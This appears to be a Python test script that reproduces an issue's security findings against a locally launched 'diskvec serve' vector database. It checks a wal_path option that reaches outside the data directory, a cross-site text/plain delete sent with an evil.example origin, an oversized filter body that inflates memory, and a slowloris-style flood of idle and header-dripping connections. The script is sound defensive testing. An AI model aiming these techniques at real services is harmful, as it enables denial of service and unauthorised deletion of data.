"""Outside probe of a running `diskvec serve` (stdlib only): the issue's findings, measured."""
import json, os, socket, subprocess, sys, time, urllib.request, urllib.error

BIN, WORK = sys.argv[1], sys.argv[2]
os.makedirs(WORK, exist_ok=True)
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
proc = subprocess.Popen([BIN, "serve", "--db", f"{WORK}/db", "--port", str(port)], stdout=subprocess.DEVNULL,
                        stderr=open(f"{WORK}/serve.log", "w"))
base = f"http://127.0.0.1:{port}"
for _ in range(100):
    try:
        urllib.request.urlopen(base + "/healthz", timeout=1); break
    except Exception:
        time.sleep(0.2)

def call(method, path, body=None, ctype="application/json", headers=None):
    data = None if body is None else (body if isinstance(body, bytes) else json.dumps(body).encode())
    h = {"content-type": ctype, **(headers or {})}
    req = urllib.request.Request(base + path, data=data, method=method, headers=h)
    try:
        with urllib.request.urlopen(req, timeout=60) as r:
            return r.status, r.read()[:200]
    except urllib.error.HTTPError as e:
        return e.code, e.read()[:200]

def rss_mib():
    for line in open(f"/proc/{proc.pid}/status"):
        if line.startswith("VmHWM"):
            return int(line.split()[1]) // 1024

victim = f"{WORK}/victim"; os.makedirs(f"{victim}/mycol", exist_ok=True)
open(f"{victim}/mycol/precious", "w").write("x")
st, _ = call("PUT", "/collections/mycol", {"vectors": {"size": 4, "distance": "Dot"}, "diskvec": {"wal_path": victim}})
st2, _ = call("DELETE", "/collections/mycol")
print(f"wal_path outside: create {st}, delete {st2}, planted file kept: {os.path.exists(victim + '/mycol/precious')}")
call("PUT", "/collections/c", {"vectors": {"size": 4, "distance": "Dot"}})
call("PUT", "/collections/c/points?wait=true", {"points": [{"id": i, "vector": [i, 1, 0, 0]} for i in range(1, 6)]})
st, _ = call("POST", "/collections/c/points/delete?wait=true", {"points": [1, 2, 3, 4, 5]}, ctype="text/plain",
             headers={"origin": "https://evil.example"})
print(f"text/plain cross-site delete: {st}; points left: {json.loads(call('POST', '/collections/c/points/count', {'exact': True})[1])['result']['count']}")
before = rss_mib()
big = b'{"exact": true, "filter": {"must": [' + b",".join([b'{"key":"a","match":{"value":1}}'] * 2_000_000) + b"]}}"
try:
    st, _ = call("POST", "/collections/c/points/count", big)
except urllib.error.URLError as e:
    # Answered before the body was sent whole, then closed: read the answer by hand.
    c = socket.create_connection(("127.0.0.1", port))
    c.sendall(b"POST /collections/c/points/count HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
              + f"Content-Length: {len(big)}\r\n\r\n".encode())
    st = c.recv(64).split(b" ")[1].decode()
print(f"{len(big) / 1e6:.0f} MB count body: {st}; peak RSS {before} -> {rss_mib()} MiB")
# Connections that send nothing, and connections dripping headers.
idle = [socket.create_connection(("127.0.0.1", port)) for _ in range(200)]
drip = [socket.create_connection(("127.0.0.1", port)) for _ in range(200)]
for d in drip:
    d.sendall(b"GET /collections HTTP/1.1\r\n")
start = time.time(); closed = 0
while time.time() - start < 45 and closed < 400:
    time.sleep(3)
    for d in drip:
        try:
            d.sendall(b"X-Slow: 1\r\n")
        except OSError:
            pass
    closed = 0
    for c in idle + drip:
        c.setblocking(False)
        try:
            closed += c.recv(1) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
print(f"200 silent + 200 dripping connections: {closed} closed by the server after {time.time() - start:.0f} s")
proc.terminate(); proc.wait(timeout=30)
